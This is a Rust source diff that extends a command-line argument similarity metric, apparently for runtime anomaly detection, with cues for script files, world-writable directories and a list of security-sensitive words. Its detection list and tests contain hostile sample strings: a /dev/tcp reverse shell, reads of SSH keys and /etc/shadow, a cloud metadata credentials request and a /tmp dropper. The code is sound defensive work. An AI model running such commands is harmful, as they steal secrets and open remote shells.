@@ -12,21 +12,118 @@
 //! when they merge (the triangle inequality holds):
 //!
 //! ```text
-//! d(a, b) = min(π, angle(embedding a, embedding b) + STRUCTURE_WEIGHT · J(shape a, shape b))
+//! d(a, b) = min(π, angle(embedding a, embedding b) + structure(a, b))
+//! structure(a, b) = STRUCTURE_WEIGHT · J(shape a, shape b)
+//!                 + CUE_WEIGHT · (script(a, b) + writable(a, b) + Js(sensitive a, sensitive b))
 //! similarity = cos d        (= the cosine when the shapes are equal)
 //! ```
 //!
 //! `angle` is the great-circle distance on the unit sphere and `J` the weighted
-//! Jaccard distance of the two shapes (a metric on weighted sets); a sum of
-//! metrics is a metric on the pairs, and so is its minimum with a constant.
+//! Jaccard distance of the two shapes (a metric on weighted sets). The three
+//! *cues* say what a sentence model and word overlap both miss, because one
+//! changed word in a long line carries the behaviour:
+//!
+//! - `script`: the program file the arguments run (the first word ending in
+//!   `.py`, `.php`, `.js`, `.jar`, `.sh`, …): 0 if equal, 1 if both have one and
+//!   they differ, ½ if only one has one (`index.php` → `uploads/shell.php`).
+//! - `writable`: 1 if exactly one string names a path under a world-writable
+//!   directory (`/tmp`, `/var/tmp`, `/dev/shm`), where droppers stage payloads
+//!   (the same directories Falco's and Tetragon's default policies watch).
+//! - `Js`: the Jaccard distance of the sets of security-sensitive words
+//!   ([`SENSITIVE_WORDS`]: credential stores, debug and code-loading switches,
+//!   defence evasion, network shells, mining), 0 when neither has any.
+//!
+//! Each cue is a (pseudo)metric, a sum of metrics is a metric on the pairs,
+//! and so is its minimum with a constant.
 
 use std::cmp::Ordering;
 use std::f64::consts::PI;
 use std::fmt;
 
 /// Radians added to the embedding angle per unit of structural distance
-/// (`J` ∈ [0, 1]). Chosen on the calibration set only (docs/embeddings.md).
-pub const STRUCTURE_WEIGHT: f64 = 1.25;
+/// (`J` ∈ [0, 1]). Chosen on the tuning sets only (docs/embeddings.md).
+pub const STRUCTURE_WEIGHT: f64 = 1.0;
+/// Radians added per unit of each cue (script, writable directory, sensitive
+/// words). Any value in [0.5, 1] gives the same errors on the tuning sets.
+pub const CUE_WEIGHT: f64 = 0.75;
+
+/// Words whose appearance or disappearance changes what a process can reach:
+/// credential stores and secrets, remote-debugging and code-loading switches,
+/// defence evasion and privilege, network shells, mining. Lower case, sorted;
+/// a word matches a whole path segment or word (`.ssh` also matches
+/// `/root/.ssh`, `jdwp` matches `-agentlib:jdwp=…`).
+pub const SENSITIVE_WORDS: [&str; 62] = [
+    ".aws",
+    ".env",
+    ".git-credentials",
+    ".netrc",
+    ".pgpass",
+    ".ssh",
+    "/dev/tcp",
+    "/dev/udp",
+    "agentlib",
+    "apparmor",
+    "auditd",
+    "authentication_string",
+    "authorized_keys",
+    "bash_history",
+    "chroot",
+    "cluster-admin",
+    "credentials",
+    "donate-level",
+    "gdb",
+    "gshadow",
+    "histfile",
+    "htpasswd",
+    "id_ecdsa",
+    "id_ed25519",
+    "id_rsa",
+    "insmod",
+    "inspect",
+    "inspect-brk",
+    "iptables",
+    "jdwp",
+    "jmxremote",
+    "keytab",
+    "kubeconfig",
+    "ld.so.preload",
+    "ld_preload",
+    "mkfifo",
+    "modprobe",
+    "monero",
+    "mysql.user",
+    "nsenter",
+    "passwd",
+    "password",
+    "passwords",
+    "pg_authid",
+    "pg_shadow",
+    "privileged",
+    "privkey",
+    "ptrace",
+    "pty",
+    "pty.spawn",
+    "remote-debugging-port",
+    "secret",
+    "secrets",
+    "security-credentials",
+    "serviceaccount",
+    "setenforce",
+    "shadow",
+    "stratum+ssl",
+    "stratum+tcp",
+    "token",
+    "tokens",
+    "xmr",
+];
+/// More words than this are not collected per string (bounded work).
+const MAX_SENSITIVE: usize = 32;
+/// File endings of program files run by an interpreter or loader.
+const SCRIPT_ENDINGS: [&str; 10] = [
+    ".py", ".php", ".js", ".mjs", ".jar", ".sh", ".pl", ".rb", ".dll", ".war",
+];
+/// World-writable directories (a path under one starts with one of these).
+const WRITABLE_DIRS: [&str; 3] = ["/tmp", "/var/tmp", "/dev/shm"];
 
 /// Weight of a flag name (`-o`, `--port`, `-Dserver.port`).
 const FLAG_WEIGHT: f32 = 1.0;
@@ -93,6 +190,12 @@ pub struct Feature {
 pub struct ArgShape {
     /// Sorted by (kind, text), one entry per (kind, text), the largest weight kept.
     features: Vec<Feature>,
+    /// The program file the arguments run, lower-cased (`app.jar`, `index.php`).
+    script: Option<Box<str>>,
+    /// Whether a path under a world-writable directory appears.
+    writable: bool,
+    /// The [`SENSITIVE_WORDS`] present, sorted, without repeats.
+    sensitive: Vec<&'static str>,
 }
 
 impl ArgShape {
@@ -131,12 +234,65 @@ impl ArgShape {
                 _ => out.push(f),
             }
         }
-        ArgShape { features: out }
+        ArgShape {
+            features: out,
+            script: script_of(args),
+            writable: names_writable_dir(args),
+            sensitive: sensitive_words(args),
+        }
     }
 
     /// The features, sorted by kind and text.
     pub fn features(&self) -> &[Feature] {
         &self.features
+    }
+
+    /// The program file the arguments run (the first word ending in `.py`,
+    /// `.php`, `.js`, `.mjs`, `.jar`, `.sh`, `.pl`, `.rb`, `.dll` or `.war`),
+    /// lower-cased.
+    pub fn script(&self) -> Option<&str> {
+        self.script.as_deref()
+    }
+
+    /// Whether a path under `/tmp`, `/var/tmp` or `/dev/shm` appears.
+    pub fn names_writable_dir(&self) -> bool {
+        self.writable
+    }
+
+    /// The [`SENSITIVE_WORDS`] that appear, sorted.
+    pub fn sensitive(&self) -> &[&'static str] {
+        &self.sensitive
+    }
+
+    /// The cues' distance in [0, 3]: script (0, ½ or 1) + writable directory
+    /// (0 or 1) + Jaccard distance of the sensitive words. A metric.
+    pub fn cue_distance(&self, other: &ArgShape) -> f64 {
+        let script = match (&self.script, &other.script) {
+            (None, None) => 0.0,
+            (Some(a), Some(b)) if a == b => 0.0,
+            (Some(_), Some(_)) => 1.0,
+            _ => 0.5,
+        };
+        let writable = if self.writable == other.writable {
+            0.0
+        } else {
+            1.0
+        };
+        let (a, b) = (&self.sensitive, &other.sensitive);
+        let shared = a.iter().filter(|w| b.binary_search(w).is_ok()).count();
+        let union = a.len() + b.len() - shared;
+        let words = if union == 0 {
+            0.0
+        } else {
+            1.0 - shared as f64 / union as f64
+        };
+        script + writable + words
+    }
+
+    /// The structural part of the argument distance, in radians:
+    /// `STRUCTURE_WEIGHT · J + CUE_WEIGHT · cues` (see the module docs).
+    pub fn structural_distance(&self, other: &ArgShape) -> f64 {
+        STRUCTURE_WEIGHT * self.distance(other) + CUE_WEIGHT * self.cue_distance(other)
     }
 
     /// Weighted Jaccard distance `1 − Σ min(w) / Σ max(w)` over the union of
@@ -161,6 +317,41 @@ impl ArgShape {
     /// What `observed` has that `self` lacks, and what it lacks of `self`.
     pub fn diff(&self, observed: &ArgShape) -> ShapeDiff {
         let mut d = ShapeDiff::default();
+        let new: Vec<&str> = observed
+            .sensitive
+            .iter()
+            .filter(|w| self.sensitive.binary_search(w).is_err())
+            .copied()
+            .collect();
+        if !new.is_empty() {
+            d.notes
+                .push(format!("new sensitive words {}", new.join(" ")));
+        }
+        let gone: Vec<&str> = self
+            .sensitive
+            .iter()
+            .filter(|w| observed.sensitive.binary_search(w).is_err())
+            .copied()
+            .collect();
+        if !gone.is_empty() {
+            d.notes
+                .push(format!("missing sensitive words {}", gone.join(" ")));
+        }
+        if self.writable != observed.writable {
+            d.notes.push(if observed.writable {
+                "a path in a world-writable directory (/tmp, /var/tmp, /dev/shm)".to_string()
+            } else {
+                "no longer a path in a world-writable directory".to_string()
+            });
+        }
+        if self.script != observed.script {
+            let name = |s: &Option<Box<str>>| s.as_deref().unwrap_or("none").to_string();
+            d.notes.push(format!(
+                "program file {} instead of {}",
+                name(&observed.script),
+                name(&self.script)
+            ));
+        }
         merge(&self.features, &observed.features, |a, b| match (a, b) {
             (None, Some(x)) => d.added.push((x.kind, x.text.to_string())),
             (Some(x), None) => d.missing.push((x.kind, x.text.to_string())),
@@ -195,6 +386,103 @@ fn merge(a: &[Feature], b: &[Feature], mut f: impl FnMut(Option<&Feature>, Optio
             }
         }
     }
+}
+
+/// Bytes of a file-name word (`app.jar`, `<tmp>.py`).
+fn file_word_byte(c: u8) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, b'_' | b'<' | b'>' | b'.' | b'-')
+}
+
+/// The first word (a maximal run of letters, digits and `_<>.-`) that ends in
+/// a [`SCRIPT_ENDINGS`] entry after at least one other byte, lower-cased.
+fn script_of(text: &str) -> Option<Box<str>> {
+    let b = text.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        if !file_word_byte(b[i]) {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        while i < b.len() && file_word_byte(b[i]) {
+            i += 1;
+        }
+        let word = text[start..i].to_ascii_lowercase();
+        for end in SCRIPT_ENDINGS {
+            if word.len() > end.len() && word.ends_with(end) {
+                let before = word.as_bytes()[word.len() - end.len() - 1];
+                if before != b'.' {
+                    return Some(word.into());
+                }
+            }
+        }
+    }
+    None
+}
+
+/// Whether a path under a [`WRITABLE_DIRS`] entry appears: the directory
+/// starts the text or follows whitespace, a quote, `=`, `:` or `(`, and is
+/// followed by `/` or a byte that is not a letter, digit or `_`.
+fn names_writable_dir(text: &str) -> bool {
+    let b = text.as_bytes();
+    WRITABLE_DIRS.iter().any(|dir| {
+        text.match_indices(dir).any(|(i, _)| {
+            let before_ok = i == 0
+                || matches!(
+                    b[i - 1],
+                    b' ' | b'\t' | b'\n' | b'\'' | b'"' | b'=' | b':' | b'('
+                );
+            let after_ok = match b.get(i + dir.len()) {
+                None => true,
+                Some(&c) => !(c.is_ascii_alphanumeric() || c == b'_'),
+            };
+            before_ok && after_ok
+        })
+    })
+}
+
+/// The [`SENSITIVE_WORDS`] in `text`: each maximal run of letters, digits and
+/// `_.+/-` is matched whole and segment by segment (split at `/`), with
+/// leading and trailing `-` and trailing `.` removed (and once more without
+/// leading dots); `/dev/tcp` and `/dev/udp` also match inside a run.
+fn sensitive_words(text: &str) -> Vec<&'static str> {
+    let lower = text.to_ascii_lowercase();
+    let b = lower.as_bytes();
+    let run_byte =
+        |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'+' | b'/' | b'-');
+    let mut found: Vec<&'static str> = Vec::new();
+    let add = |w: &str, found: &mut Vec<&'static str>| {
+        if let Ok(k) = SENSITIVE_WORDS.binary_search(&w) {
+            let word = SENSITIVE_WORDS[k];
+            if found.len() < MAX_SENSITIVE && !found.contains(&word) {
+                found.push(word);
+            }
+        }
+    };
+    let mut i = 0;
+    while i < b.len() {
+        if !run_byte(b[i]) {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        while i < b.len() && run_byte(b[i]) {
+            i += 1;
+        }
+        let run = &lower[start..i];
+        for dev in ["/dev/tcp", "/dev/udp"] {
+            if run.contains(dev) {
+                add(dev, &mut found);
+            }
+        }
+        for part in std::iter::once(run).chain(run.split('/')) {
+            let p = part.trim_matches('-').trim_end_matches('.');
+            add(p, &mut found);
+            add(p.trim_start_matches('.'), &mut found);
+        }
+    }
+    found.sort_unstable();
+    found
 }
 
 /// `-x…` or `--x…` with `x` an ASCII letter.
@@ -258,6 +546,9 @@ fn words(text: &str, kind: FeatureKind, weight: f32, out: &mut Vec<Feature>) {
 /// Features one string has and the other lacks.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct ShapeDiff {
+    /// What the cues found, in words (sensitive words, a world-writable
+    /// directory, another program file); shown first.
+    pub notes: Vec<String>,
     /// In the observed string only.
     pub added: Vec<(FeatureKind, String)>,
     /// In the known string only.
@@ -269,6 +560,13 @@ impl fmt::Display for ShapeDiff {
     /// (at most 8 items per group).
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         let mut first = true;
+        for note in &self.notes {
+            if !first {
+                f.write_str("; ")?;
+            }
+            first = false;
+            f.write_str(note)?;
+        }
         for (label, list) in [("new", &self.added), ("missing", &self.missing)] {
             for kind in [
                 FeatureKind::Flag,
@@ -311,9 +609,10 @@ pub fn angle_of_cosine(cosine: f32) -> f64 {
     f64::from(cosine).clamp(-1.0, 1.0).acos()
 }
 
-/// The combined distance `min(π, angle + STRUCTURE_WEIGHT · structure)`.
+/// The combined distance `min(π, angle + structure)`, with `structure` from
+/// [`ArgShape::structural_distance`] (radians).
 pub fn arg_distance(angle: f64, structure: f64) -> f64 {
-    (angle + STRUCTURE_WEIGHT * structure).clamp(0.0, PI)
+    (angle + structure).clamp(0.0, PI)
 }
 
 /// Argument similarity of two normalised argument strings, given the cosine
@@ -321,7 +620,7 @@ pub fn arg_distance(angle: f64, structure: f64) -> f64 {
 /// cosine when the shapes are equal; compare it with
 /// [`default_threshold`](crate::default_threshold).
 pub fn arg_similarity(cosine: f32, a: &ArgShape, b: &ArgShape) -> f32 {
-    arg_distance(angle_of_cosine(cosine), a.distance(b)).cos() as f32
+    arg_distance(angle_of_cosine(cosine), a.structural_distance(b)).cos() as f32
 }
 
 /// Why an argument string is (un)like a known one: the similarity, its two
@@ -334,6 +633,8 @@ pub struct ArgComparison {
     pub cosine: f32,
     /// Structural (weighted Jaccard) distance of the shapes, in [0, 1].
     pub structure: f32,
+    /// The cues' distance ([`ArgShape::cue_distance`]), in [0, 3].
+    pub cues: f32,
     /// Features that differ (observed vs known).
     pub diff: ShapeDiff,
 }
@@ -344,22 +645,25 @@ impl ArgComparison {
     pub fn new(known: &str, observed: &str, cosine: f32) -> Self {
         let (k, o) = (ArgShape::of(known), ArgShape::of(observed));
         let structure = k.distance(&o);
+        let cues = k.cue_distance(&o);
         ArgComparison {
-            similarity: arg_distance(angle_of_cosine(cosine), structure).cos() as f32,
+            similarity: arg_distance(angle_of_cosine(cosine), k.structural_distance(&o)).cos()
+                as f32,
             cosine,
             structure: structure as f32,
+            cues: cues as f32,
             diff: k.diff(&o),
         }
     }
 }
 
 impl fmt::Display for ArgComparison {
-    /// `similarity -0.93 (cosine 0.17, structure 0.95): new flags -o -u -p; …`
+    /// `similarity -0.93 (cosine 0.17, structure 0.95, cues 1.50): new flags -o -u -p; …`
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(
             f,
-            "similarity {:.2} (cosine {:.2}, structure {:.2}): {}",
-            self.similarity, self.cosine, self.structure, self.diff
+            "similarity {:.2} (cosine {:.2}, structure {:.2}, cues {:.2}): {}",
+            self.similarity, self.cosine, self.structure, self.cues, self.diff
         )
     }
 }
@@ -421,12 +725,29 @@ mod tests {
             "-m celery -A proj worker --loglevel=info",
             "-m celery -A proj beat --loglevel=info",
         ];
-        let shapes: Vec<ArgShape> = samples.iter().map(|s| ArgShape::of(s)).collect();
+        let shapes: Vec<ArgShape> = samples
+            .iter()
+            .chain(&[
+                "-jar /tmp/x.jar",
+                "-jar /app/app.jar -agentlib:jdwp=transport=dt_socket",
+                "/var/www/html/uploads/shell.php",
+                "cat /root/.ssh/id_rsa /etc/shadow",
+                "cat /etc/shadow",
+            ])
+            .map(|s| ArgShape::of(s))
+            .collect();
         for a in &shapes {
+            assert_eq!(a.structural_distance(a), 0.0);
             for b in &shapes {
                 assert!((a.distance(b) - b.distance(a)).abs() < 1e-12);
+                assert!((a.cue_distance(b) - b.cue_distance(a)).abs() < 1e-12);
                 for c in &shapes {
                     assert!(a.distance(c) <= a.distance(b) + b.distance(c) + 1e-12);
+                    assert!(a.cue_distance(c) <= a.cue_distance(b) + b.cue_distance(c) + 1e-12);
+                    assert!(
+                        a.structural_distance(c)
+                            <= a.structural_distance(b) + b.structural_distance(c) + 1e-12
+                    );
                 }
             }
         }
@@ -457,9 +778,102 @@ mod tests {
     }
 
     #[test]
+    fn the_program_file_is_the_first_word_with_a_script_ending() {
+        let script = |s: &str| ArgShape::of(s).script().map(str::to_owned);
+        assert_eq!(
+            script("-Xmx1g -jar /app/App.jar --port <num>").as_deref(),
+            Some("app.jar")
+        );
+        assert_eq!(
+            script("/var/www/html/uploads/shell.php").as_deref(),
+            Some("shell.php")
+        );
+        assert_eq!(
+            script("-c 'chmod +x /tmp/<tmp>.sh'").as_deref(),
+            Some("<tmp>.sh")
+        );
+        assert_eq!(script("--config /etc/app/config.json"), None);
+        assert_eq!(script("-c /etc/x..sh .py"), None);
+        assert_eq!(script(""), None);
+    }
+
+    #[test]
+    fn paths_in_world_writable_directories_are_noticed_at_a_path_start_only() {
+        let w = |s: &str| ArgShape::of(s).names_writable_dir();
+        assert!(w("-c 'chmod +x /tmp/x && /tmp/x'"));
+        assert!(w("--dir=/dev/shm/.x"));
+        assert!(w("-C /var/tmp"));
+        assert!(w("/tmp"));
+        assert!(!w("--mount /tmpfs/a"));
+        assert!(!w("/app/tmp/x"));
+        assert!(!w("-jar /app/app.jar"));
+    }
+
+    #[test]
+    fn sensitive_words_match_whole_words_and_path_segments() {
+        let s = |t: &str| ArgShape::of(t).sensitive().to_vec();
+        assert_eq!(
+            s("-agentlib:jdwp=transport=dt_socket,server=y -jar a.jar"),
+            ["agentlib", "jdwp"]
+        );
+        assert_eq!(
+            s("czf - /root/.ssh/id_rsa /etc/shadow"),
+            [".ssh", "id_rsa", "shadow"]
+        );
+        assert_eq!(
+            s("-c 'bash -i >& /dev/tcp/<ipv4>/<num> <num>>&<num>'"),
+            ["/dev/tcp"]
+        );
+        assert_eq!(
+            s("-s http://<ipv4>/latest/meta-data/iam/security-credentials/x"),
+            ["security-credentials"]
+        );
+        assert_eq!(s("--Inspect=<ipv4>:<num> index.js"), ["inspect"]);
+        // Near misses: a dot-word needs its dot, and a longer word is another word.
+        assert!(s("/usr/bin/env ssh host --shadowing --password-file=/x").is_empty());
+    }
+
+    #[test]
+    fn cues_lower_the_similarity_and_say_why() {
+        let known = "-c 'chmod +x /app/bin/start.sh && /app/bin/start.sh'";
+        let observed = "-c 'chmod +x /tmp/x && /tmp/x'";
+        let (k, o) = (ArgShape::of(known), ArgShape::of(observed));
+        assert_eq!(k.cue_distance(&o), 0.5 + 1.0);
+        assert!(arg_similarity(0.59, &k, &o) < arg_similarity(0.59, &k, &k) - 0.5);
+        let text = ArgComparison::new(known, observed, 0.59).to_string();
+        assert!(text.contains("world-writable"), "{text}");
+        assert!(
+            text.contains("program file none instead of start.sh"),
+            "{text}"
+        );
+        let c = ArgComparison::new(
+            "-s http://<ipv4>/latest/meta-data/instance-id",
+            "-s http://<ipv4>/latest/meta-data/iam/security-credentials/node",
+            0.59,
+        );
+        assert_eq!(c.cues, 1.0);
+        assert!(
+            c.to_string()
+                .contains("new sensitive words security-credentials"),
+            "{c}"
+        );
+        // Equal cues add nothing.
+        let a = ArgShape::of("cat /etc/shadow");
+        assert_eq!(a.cue_distance(&ArgShape::of("-n cat /etc/shadow")), 0.0);
+    }
+
+    #[test]
+    fn the_sensitive_word_list_is_sorted_lower_case_and_without_repeats() {
+        assert!(SENSITIVE_WORDS.windows(2).all(|w| w[0] < w[1]));
+        assert!(SENSITIVE_WORDS.iter().all(|w| *w == w.to_ascii_lowercase()));
+    }
+
+    #[test]
     fn huge_and_odd_input_is_bounded_and_never_panics() {
         let big = "-a x ".repeat(100_000);
         assert!(ArgShape::of(&big).features().len() <= MAX_FEATURES);
+        let words = SENSITIVE_WORDS.join(" ").repeat(3);
+        assert!(ArgShape::of(&words).sensitive().len() <= MAX_SENSITIVE);
         for s in ["<", "<<>>", "-", "--", "-=", "é-ü <num", "$(`|`)", "<abc"] {
             let _ = ArgShape::of(s).distance(&ArgShape::of("x"));
         }
